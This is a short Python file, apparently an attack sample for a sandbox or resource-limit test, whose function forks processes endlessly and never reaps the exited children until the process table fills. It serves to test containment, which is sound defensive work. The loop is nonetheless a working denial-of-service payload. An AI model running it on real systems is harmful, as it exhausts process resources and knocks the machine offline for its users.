"""Fills the table of processes with ended ones that nobody buries."""

# attacks: lock_race
# limits: cpu_s = 1.0
# shows: over_limit

import os


def attack():
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            continue
